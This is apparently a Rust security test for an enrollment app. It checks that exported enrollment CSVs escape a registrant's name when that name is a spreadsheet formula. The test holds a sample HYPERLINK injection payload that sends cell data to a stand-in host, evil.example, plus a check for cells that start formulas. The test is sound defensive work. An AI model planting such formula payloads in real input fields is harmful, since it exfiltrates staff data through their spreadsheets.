//! Attacks through exported files: text a stranger controls, opened by staff in a spreadsheet.

use super::CS101;
use crate::common::{Engine, TestApp};

const CS101_IN_URL: &str = "course-v1:DemoX%2BCS101%2B2026_T1";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";

/// Whether any cell of a CSV document starts a formula (`=`, `+`, `-`, `@`).
fn formula_cells(csv: &str) -> Vec<String> {
    let mut reader =
        ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .filter(|cell| cell.starts_with(['=', '+', '-', '@']))
        .collect()
}

/// The attacker registers with a spreadsheet formula as their name and gets enrolled; staff then
/// download the course's enrollment list and a batch report that lists a formula typed as an
/// identifier. In both files the formula is text (a leading apostrophe), the name is still there
/// to read, and nothing else in the files changed.
async fn a_formula_for_a_name_runs_in_the_instructors_spreadsheet(engine: Engine) {
    let app = TestApp::seeded(engine).await;
    app.register_and_sign(&[
        ("username", "mallory"),
        ("email", "mallory@example.net"),
        ("full_name", FORMULA),
        ("password", "a long passphrase"),
        ("password_confirm", "a long passphrase"),
    ])
    .await;
    let staff = app.sign_in("staff", "registrar-staff").await;
    let identifiers = format!("mallory\n{FORMULA}");
    let batch = [("course", CS101), ("identifiers", identifiers.as_str()), ("action", "enroll")];
    let enrolled = app.post_form("/api/membership/enroll_batch", &batch, Some(&staff)).await;
    assert_eq!(enrolled.status, 200, "{}", enrolled.body);
    let id = enrolled.json()["id"].as_str().unwrap().to_owned();

    let list = app
        .get(&format!("/api/membership/enrollments.csv?course={CS101_IN_URL}&search=mallory"), Some(&staff))
        .await;
    assert_eq!(list.status, 200, "{}", list.body);
    assert!(list.body.contains("mallory@example.net"), "{}", list.body);
    assert_eq!(formula_cells(&list.body), Vec::<String>::new(), "{}", list.body);
    assert!(list.body.contains("'=HYPERLINK("), "the name is kept, as text: {}", list.body);

    let report = app
        .get(&format!("/api/membership/batch_report.csv?course={CS101_IN_URL}&id={id}"), Some(&staff))
        .await;
    assert_eq!(report.status, 200, "{}", report.body);
    assert!(report.body.contains("mallory,true,"), "{}", report.body);
    assert_eq!(formula_cells(&report.body), Vec::<String>::new(), "{}", report.body);
    app.cleanup().await;
}

crate::on_both_engines!(a_formula_for_a_name_runs_in_the_instructors_spreadsheet);
